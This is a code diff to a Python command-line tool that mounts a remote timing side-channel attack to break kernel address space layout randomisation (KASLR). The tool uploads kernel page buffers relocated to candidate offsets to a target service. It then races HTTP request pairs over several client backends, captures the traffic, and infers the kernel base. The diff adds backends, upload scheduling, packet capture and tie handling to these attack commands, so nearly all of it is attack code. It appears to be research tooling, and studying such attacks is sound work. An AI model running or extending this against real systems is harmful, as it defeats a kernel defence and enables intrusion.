@@ -1,33 +1,39 @@
-import os
-import binascii
+import sys
+from lazyimport import lazy_import, ImportProfiler
+
+# Started before the other imports so they show up in the profile
+import_profiler = ImportProfiler.from_argv(sys.argv)
+
 import time
 import click
-import yaml
 import signal
-import sys
 import random
-import asyncio
 import queue
-import itertools
 from datetime import datetime
-import pandas as pd
-import numpy as np
 from addict import Dict
-import numpy as np
-from timeit import default_timer as timer
 
-from utils import address_to_int, address_to_int_str, load_page_from_config, load_binary_page_from_config, prepare_pages, chunks
+from utils import address_to_int, address_to_int_str, load_pages, PageVariantBuilder, chunks
+from pagecache import PageBufferCache
+from scheduler import UploadScheduler
+from manifest import UploadManifest, MANIFEST_DIR
+from candidates import CandidateSpace
 from config import load_config_file
 from network import terminate_capture_thread
-from network.http import CapturePySharkThreadHttp
-from network.http2 import CapturePySharkThreadHttp2
-from service import KASLRServiceRequests, KASLRServiceAIOHTTP, KASLRServiceHTTPX, KASLRServiceH2Time
+from runtime import install_loop, LOOPS
+from service import KASLRServiceRequests, KASLRServiceAIOHTTP, KASLRServiceHTTPX, KASLRServiceH2Time, KASLRServicePipeline
+
+# Only needed by the analysis
+pd = lazy_import('pandas')
+np = lazy_import('numpy')
 
 
 # Defaults
 KERNEL_TEXT_MAPPING = '0xffffffff80000000'
 capture_thread = None
 
+# Commands that work on recorded results and need no service or capture
+OFFLINE_COMMANDS = ['evaluate-raw']
+
 
 def signal_handler(sig, frame):
     global capture_thread
@@ -42,23 +48,48 @@ def signal_handler(sig, frame):
 @click.group()
 @click.option('--debug/--no-debug', default=False)
 @click.option('-c', '--config', 'config_file', required=False, type=click.Path(exists=True))
-@click.option('-b', '--backend', required=False, default='aiohttp', type=click.Choice(['requests', 'aiohttp', 'httpx', 'h2time']))
+@click.option('-b', '--backend', required=False, default='aiohttp', type=click.Choice(['requests', 'aiohttp', 'httpx', 'h2time', 'pipeline']))
 @click.option('-t', '--kernel-text-mapping', type=str, default=KERNEL_TEXT_MAPPING, callback=address_to_int)
 @click.option('-m', '--http-version', 'http_version', required=False, default='http', type=click.Choice(['http', 'http2']))
 @click.option('-t', '--monitor-traffic', 'monitor_traffic', required=False, type=bool, default=True)
 @click.option('-h', '--host', type=str, default='0.0.0.0')
 @click.option('-p', '--port', type=int, default=6666)
 @click.option('-d', '--device', default="enp3s0")
+@click.option('--capture-engine', default='pyshark', type=click.Choice(['pyshark', 'native']), help='Capture with tshark or in-process from an AF_PACKET socket (HTTP/1.1 only).')
+@click.option('--pcap', type=click.File('rb'), default=None, help='Read the native capture from a pcap stream (- for stdin) instead of the device.')
 @click.option('-f', '--page-file', 'page_files', type=click.Path(exists=True), multiple=True)
 @click.option('-o', '--offset', 'offsets', type=str, multiple=True)
+@click.option('--page-cache-size', type=int, default=64)
+@click.option('--prefetch/--no-prefetch', default=True)
+@click.option('-u', '--upload-format', required=False, default='hex', type=click.Choice(['hex', 'binary']))
+@click.option('--bundle/--no-bundle', 'use_bundle', default=True)
+@click.option('--connection-limit', type=int, default=100)
+@click.option('--pipeline-connections', type=int, default=4)
+@click.option('--h2-connections', type=int, default=1, help='HTTP/2 connections of the httpx backend, warm pair race connections of h2time.')
+@click.option('--kernel-timestamps', is_flag=True, default=False, help='Time h2time responses with kernel receive timestamps.')
+@click.option('--loop', 'event_loop', default='asyncio', type=click.Choice(LOOPS), help='Event loop of the async backends.')
+@click.option('--batch-pairs/--single-pairs', default=False, help='Race all pairs of a round back-to-back instead of one after another (HTTP/2 strategies).')
+@click.option('--tls', is_flag=True, default=False, help='Speak HTTP/2 over TLS with the h2time backend.')
+@click.option('--request-workers', type=int, default=None, help='Threads of the requests backend, defaults to the upload limit.')
+@click.option('--ordered-triggers/--concurrent-triggers', default=True, help='Send the triggers of the requests backend one after another.')
+@click.option('--upload-limit', type=int, default=16, help='Page uploads in flight.')
+@click.option('--upload-rate', type=float, default=None, help='Upload rate cap in MiB/s.')
+@click.option('--reupload', is_flag=True, default=False, help='Upload all pages even if the server holds them.')
+@click.option('--manifest-dir', type=click.Path(file_okay=False), default=MANIFEST_DIR)
+@click.option('--trust-manifest', is_flag=True, default=False, help='Skip the pages of the local manifest if the server has no /manifest.')
+@click.option('--import-profile', is_flag=True, default=False, help='Print the import time per module on exit.')
 @click.pass_context
-def cli(ctx, debug, config_file, backend, page_files, offsets, kernel_text_mapping, http_version, monitor_traffic, host, port, device):
+def cli(ctx, debug, config_file, backend, page_files, offsets, kernel_text_mapping, http_version, monitor_traffic, host, port, device, capture_engine, pcap, page_cache_size, prefetch, upload_format, use_bundle, connection_limit, pipeline_connections, h2_connections, kernel_timestamps, event_loop, batch_pairs, tls, request_workers, ordered_triggers, upload_limit, upload_rate, reupload, manifest_dir, trust_manifest, import_profile):
     global capture_thread
 
     ctx.ensure_object(Dict)
 
     # Set debug level
     ctx.obj.debug = debug
+    ctx.obj.batch_pairs = batch_pairs
+
+    if ctx.invoked_subcommand in OFFLINE_COMMANDS:
+        return
 
     # Check arguments
     if len(offsets) != len(page_files):
@@ -89,6 +120,9 @@ def cli(ctx, debug, config_file, backend, page_files, offsets, kernel_text_mappi
     if not config.device:
         config.device = device
 
+    if not config.upload_format:
+        config.upload_format = upload_format
+
     if config.monitor_traffic:
         monitor_traffic = config.monitor_traffic
 
@@ -99,85 +133,79 @@ def cli(ctx, debug, config_file, backend, page_files, offsets, kernel_text_mappi
 
     ctx.obj.config = config
 
-    # Load pages from config file
-    ctx.obj.pages = []
-    if config.binary_pages:
-        config_dir = os.path.dirname(config_file)
-
-        for idx, config_page in enumerate(config.binary_pages):
-            page_file = os.path.join(config_dir, config_page.file)
-            page, page_offsets, kernel_offsets = load_binary_page_from_config(
-               page_file,
-               config_page.offsets,
-               config.kernel_text_mapping
-               )
-
-            ctx.obj.pages.append(Dict({
-                'page': page,
-                'offsets': page_offsets,
-                'kernel_offsets': kernel_offsets
-            }))
-
-    if config.pages:
-        config_dir = os.path.dirname(config_file)
-
-        for idx, config_page in enumerate(config.pages):
-            page_file = os.path.join(config_dir, config_page.file)
-            page, page_offsets, kernel_offsets = load_page_from_config(
-               page_file,
-               config.kernel_text_mapping
-               )
-
-            ctx.obj.pages.append(Dict({
-                'page': page,
-                'offsets': page_offsets,
-                'kernel_offsets': kernel_offsets
-            }))
-
-    # Load pages from parameters
-    for idx, page_file in enumerate(page_files):
-        if offsets[idx] == "-1":
-            page_offsets = [x for x in range(0, 4096, 8)]
-        else:
-            page_offsets = [int(x) for x in offsets[idx].split(",")]
-
-        page, page_offsets, kernel_offsets = load_binary_page_from_config(
-            page_file,
-            page_offsets,
-            config.kernel_text_mapping
-            )
-
-        ctx.obj.pages.append(Dict({
-            'page': page,
-            'offsets': page_offsets,
-            'kernel_offsets': kernel_offsets
-        }))
-
-    # Preparing all page buffers
-    kaslr_page_buffers = [0] * 512
-    kernel_text_mapping_base = address_to_int_str(KERNEL_TEXT_MAPPING)
-    for kaslr_offset in range(0, 512):
-        kaslr_page_buffers[kaslr_offset] = \
-            prepare_pages(ctx.obj.pages, kernel_text_mapping_base, kaslr_offset)
-
-    # Setup service
+    # Load pages from config file and parameters
+    ctx.obj.pages = load_pages(config, config_file, page_files, offsets, use_bundle)
+
+    # Candidate addresses the pages are relocated to
+    try:
+        ctx.obj.candidates = CandidateSpace.from_config(config, address_to_int_str(KERNEL_TEXT_MAPPING))
+    except ValueError as e:
+        raise click.UsageError(str(e))
+
+    # Page buffers are built on demand for the offsets that get uploaded
+    kaslr_page_buffers = PageBufferCache(
+        PageVariantBuilder(ctx.obj.pages, ctx.obj.candidates),
+        capacity=page_cache_size,
+        prefetch=prefetch
+        )
+
+    # Uploads are bounded in flight and optionally rate limited
+    scheduler = UploadScheduler(
+        limit=upload_limit,
+        rate=upload_rate * 2**20 if upload_rate else None,
+        progress=print_upload_progress
+        )
+
+    # Pages the server already holds from an earlier run are not uploaded again
+    manifest = None
+    if not reupload:
+        manifest = UploadManifest.for_target(config.host, config.port, manifest_dir, trust_manifest)
+
+    # Before any service touches the runtime
+    try:
+        install_loop(event_loop)
+    except ImportError:
+        raise click.UsageError(f'--loop {event_loop} needs the {event_loop} package.')
+
+    # Setup service, only the client library of the backend gets imported
     if backend == 'requests':
-        ctx.obj.service = KASLRServiceRequests(config.host, config.port, config.http_version, kaslr_page_buffers)
+        ctx.obj.service = KASLRServiceRequests(config.host, config.port, config.http_version, kaslr_page_buffers, config.upload_format, scheduler=scheduler, manifest=manifest,
+                                               workers=request_workers, ordered=ordered_triggers)
     elif backend == 'aiohttp':
-        ctx.obj.service = KASLRServiceAIOHTTP(config.host, config.port, config.http_version, kaslr_page_buffers)
+        ctx.obj.service = KASLRServiceAIOHTTP(config.host, config.port, config.http_version, kaslr_page_buffers, config.upload_format, scheduler=scheduler, manifest=manifest, connection_limit=connection_limit)
     elif backend == 'h2time':
-        ctx.obj.service = KASLRServiceH2Time(config.host, config.port, config.http_version, kaslr_page_buffers)
+        ctx.obj.service = KASLRServiceH2Time(config.host, config.port, config.http_version, kaslr_page_buffers, config.upload_format, scheduler=scheduler, manifest=manifest,
+                                             connections=h2_connections, kernel_timestamps=kernel_timestamps, tls=tls)
     elif backend == 'httpx':
-        ctx.obj.service = KASLRServiceHTTPX(config.host, config.port, config.http_version, kaslr_page_buffers)
+        ctx.obj.service = KASLRServiceHTTPX(config.host, config.port, config.http_version, kaslr_page_buffers, config.upload_format, scheduler=scheduler, manifest=manifest,
+                                            connections=h2_connections)
+    elif backend == 'pipeline':
+        ctx.obj.service = KASLRServicePipeline(config.host, config.port, config.http_version, kaslr_page_buffers, config.upload_format, scheduler=scheduler, manifest=manifest,
+                                               connections=pipeline_connections, candidate_count=len(ctx.obj.candidates))
 
     if config.http_version == 'http2' and not ctx.obj.service.supports_http2():
         raise click.UsageError(f'Backend {backend} does not support HTTP/2.')
 
+    # Pooled connections are closed when the command returns
+    ctx.call_on_close(ctx.obj.service.close)
+    if debug and backend == 'h2time':
+        ctx.call_on_close(lambda: click.echo(ctx.obj.service.pair_pool))
+
     # Start capturing thread
     if config.monitor_traffic:
-        if config.http_version == 'http':
+        if config.http_version == 'http' and (capture_engine == 'native' or pcap is not None):
+            from network.http import CapturePacketThreadHttp
+            capture_thread = CapturePacketThreadHttp(interface=config.device, tcp_port=config.port, backend=backend, pcap=pcap)
+        elif config.http_version == 'http':
+            if backend == 'pipeline':
+                # Its triggers share TCP segments and tshark only dissects the first request of a segment
+                raise click.UsageError('The pipeline backend needs --capture-engine native.')
+            from network.http import CapturePySharkThreadHttp
             capture_thread = CapturePySharkThreadHttp(interface=config.device, tcp_port=config.port, backend=backend)
+        elif capture_engine == 'native' or pcap is not None:
+            raise click.UsageError('The native capture engine only supports HTTP/1.1.')
         elif config.http_version == 'http2':
+            from network.http2 import CapturePySharkThreadHttp2
             capture_thread = CapturePySharkThreadHttp2(interface=config.device, tcp_port=config.port, backend=backend)
         else:
             raise click.UsageError('Invalid http mode given.')
@@ -187,6 +215,36 @@ def cli(ctx, debug, config_file, backend, page_files, offsets, kernel_text_mappi
         ctx.obj.capture_thread = capture_thread
 
 
+def last_candidate(ctx, param, value):
+    candidates = ctx.obj.candidates
+    if value is None:
+        return len(candidates) - 1
+    if value >= len(candidates):
+        raise click.BadParameter(f'Only {len(candidates)} candidates in {candidates}')
+    return value
+
+
+def print_upload_progress(report):
+    if report.done % 64 == 0 or report.done == report.total:
+        click.echo(f"Uploaded {report.done}/{report.total} pages ({len(report.failed)} failed, {report.bytes / 2**20:.1f} MiB)")
+
+
+def upload_offsets(service, kaslr_offsets):
+    report = service.set_offsets(kaslr_offsets)
+    click.echo(report)
+    if len(report.failed) > 0:
+        click.echo(f"Pages missing on the server for offsets {sorted(report.failed)}")
+    return report
+
+
+def race_pairs(ctx, pairs):
+    """Winners of the pairs, each raced on its own unless --batch-pairs."""
+    service = ctx.obj.service
+    if ctx.obj.batch_pairs:
+        return service.try_pairs(pairs)
+    return [service.try_pair(x) for x in pairs]
+
+
 def filter_outlier(df, column):
     groups = df.groupby('Offset')[column]
     groups_mean = groups.transform('mean')
@@ -220,7 +278,7 @@ def print_update(measurements, server_measurements):
 
 @click.command()
 @click.option('-b', '--kernel-offset-begin', type=int, default=0)
-@click.option('-e', '--kernel-offset-end', type=int, default=511)
+@click.option('-e', '--kernel-offset-end', type=int, default=None, callback=last_candidate)
 @click.option('-n', '--tries', type=int, default=10)
 @click.option('-d', '--delay', type=int, default=2)
 @click.pass_context
@@ -234,7 +292,7 @@ def attack_range(ctx, kernel_offset_begin, kernel_offset_end, tries, delay):
     random.shuffle(kaslr_offsets)
 
     # Set all offsets
-    service.set_offsets(kaslr_offsets)
+    upload_offsets(service, kaslr_offsets)
 
     # Store measurements
     measurements = []
@@ -306,7 +364,7 @@ def attack_range(ctx, kernel_offset_begin, kernel_offset_end, tries, delay):
 
 @click.command()
 @click.option('-b', '--kernel-offset-begin', type=int, default=0)
-@click.option('-e', '--kernel-offset-end', type=int, default=511)
+@click.option('-e', '--kernel-offset-end', type=int, default=None, callback=last_candidate)
 @click.option('-n', '--tries', type=int, default=1000)
 @click.option('-d', '--delay', type=int, default=2)
 @click.pass_context
@@ -320,7 +378,7 @@ def attack_chunks(ctx, kernel_offset_begin, kernel_offset_end, tries, delay):
     random.shuffle(kaslr_offsets)
 
     # Set all offsets
-    service.set_offsets(kaslr_offsets)
+    upload_offsets(service, kaslr_offsets)
 
     # Store measurements
     measurements = []
@@ -371,7 +429,7 @@ def attack_chunks(ctx, kernel_offset_begin, kernel_offset_end, tries, delay):
 
 @click.command()
 @click.option('-b', '--kernel-offset-begin', type=int, default=0)
-@click.option('-e', '--kernel-offset-end', type=int, default=511)
+@click.option('-e', '--kernel-offset-end', type=int, default=None, callback=last_candidate)
 @click.option('-n', '--tries', type=int, default=10)
 @click.option('-d', '--delay', type=int, default=2)
 @click.pass_context
@@ -385,7 +443,7 @@ def attack_league(ctx, kernel_offset_begin, kernel_offset_end, tries, delay):
     random.shuffle(kaslr_offsets)
 
     # Set all offsets
-    service.set_offsets(kaslr_offsets)
+    upload_offsets(service, kaslr_offsets)
 
     # Store measurements
     total_measurements = []
@@ -613,7 +671,7 @@ def attack_league(ctx, kernel_offset_begin, kernel_offset_end, tries, delay):
 
 @click.command()
 @click.option('-b', '--kernel-offset-begin', type=int, default=0)
-@click.option('-e', '--kernel-offset-end', type=int, default=511)
+@click.option('-e', '--kernel-offset-end', type=int, default=None, callback=last_candidate)
 @click.option('-n', '--tries', type=int, default=10)
 @click.option('-d', '--delay', type=int, default=2)
 @click.pass_context
@@ -627,7 +685,7 @@ def attack_league2(ctx, kernel_offset_begin, kernel_offset_end, tries, delay):
     random.shuffle(kaslr_offsets)
 
     # Set all offsets
-    service.set_offsets(kaslr_offsets)
+    upload_offsets(service, kaslr_offsets)
 
     # Store measurements
     total_measurements = []
@@ -767,7 +825,7 @@ def attack_league2(ctx, kernel_offset_begin, kernel_offset_end, tries, delay):
 
 @click.command()
 @click.option('-b', '--kernel-offset-begin', type=int, default=0)
-@click.option('-e', '--kernel-offset-end', type=int, default=511)
+@click.option('-e', '--kernel-offset-end', type=int, default=None, callback=last_candidate)
 @click.option('-n', '--tries', type=int, default=10)
 @click.option('-d', '--delay', type=int, default=2)
 @click.pass_context
@@ -781,7 +839,7 @@ def attack_league_http2(ctx, kernel_offset_begin, kernel_offset_end, tries, dela
     random.shuffle(kaslr_offsets)
 
     # Set all offsets
-    service.set_offsets(kaslr_offsets)
+    upload_offsets(service, kaslr_offsets)
 
     # Store measurements
     total_measurements = []
@@ -809,12 +867,15 @@ def attack_league_http2(ctx, kernel_offset_begin, kernel_offset_end, tries, dela
             run_again = False
 
             # Measure pairs
-            for idx, pair in enumerate(kaslr_offset_pairs):
+            for pair in kaslr_offset_pairs:
                 random.shuffle(pair)
-                winning_offset = service.try_pair(pair)
+            winning_offsets = race_pairs(ctx, kaslr_offset_pairs)
+            for idx, winning_offset in enumerate(winning_offsets):
                 if measurements[idx] is None:
                     measurements[idx] = []
-                measurements[idx].append(winning_offset)
+                # Ties count for neither offset
+                if winning_offset is not None:
+                    measurements[idx].append(winning_offset)
 
             # Get winner
             winner = []
@@ -909,7 +970,7 @@ def attack_league_http2(ctx, kernel_offset_begin, kernel_offset_end, tries, dela
 
 @click.command()
 @click.option('-b', '--kernel-offset-begin', type=int, default=0)
-@click.option('-e', '--kernel-offset-end', type=int, default=511)
+@click.option('-e', '--kernel-offset-end', type=int, default=None, callback=last_candidate)
 @click.option('-n', '--tries', type=int, default=10)
 @click.option('-d', '--delay', type=int, default=3)
 @click.pass_context
@@ -923,7 +984,7 @@ def attack_range_http2(ctx, kernel_offset_begin, kernel_offset_end, tries, delay
     random.shuffle(kaslr_offsets)
 
     # Set all offsets
-    service.set_offsets(kaslr_offsets)
+    upload_offsets(service, kaslr_offsets)
 
     start_time = datetime.now()
 
@@ -961,8 +1022,9 @@ def attack_range_http2(ctx, kernel_offset_begin, kernel_offset_end, tries, delay
                 kaslr_offset_pairs = [(y,x) for x,y in kaslr_offset_pairs]
 
             # Measure
-            for idx, pair in enumerate(kaslr_offset_pairs):
-                winning_offset = service.try_pair(pair)
+            for winning_offset in race_pairs(ctx, kaslr_offset_pairs):
+                if winning_offset is None:
+                    continue
                 if winning_offset not in measurements:
                     measurements[winning_offset] = 0
                 measurements[winning_offset] += 1
@@ -1060,7 +1122,7 @@ def attack_range_http2(ctx, kernel_offset_begin, kernel_offset_end, tries, delay
 
 @click.command()
 @click.option('-b', '--kernel-offset-begin', type=int, default=0)
-@click.option('-e', '--kernel-offset-end', type=int, default=511)
+@click.option('-e', '--kernel-offset-end', type=int, default=None, callback=last_candidate)
 @click.option('-n', '--tries', type=int, default=10)
 @click.option('-d', '--delay', type=int, default=2)
 @click.pass_context
@@ -1074,7 +1136,7 @@ def attack_range3(ctx, kernel_offset_begin, kernel_offset_end, tries, delay):
     random.shuffle(kaslr_offsets)
 
     # Set all offsets
-    service.set_offsets(kaslr_offsets)
+    upload_offsets(service, kaslr_offsets)
 
     # Store measurements
     measurements = {}
@@ -1090,8 +1152,9 @@ def attack_range3(ctx, kernel_offset_begin, kernel_offset_end, tries, delay):
         kaslr_offset_pairs = list(chunks(kaslr_offsets, 2))
 
         # Measure
-        for pair in kaslr_offset_pairs:
-            winner = service.try_pair(pair)
+        for winner in race_pairs(ctx, kaslr_offset_pairs):
+            if winner is None:
+                continue
             if winner not in measurements:
                 measurements[winner] = 0
             measurements[winner] += 1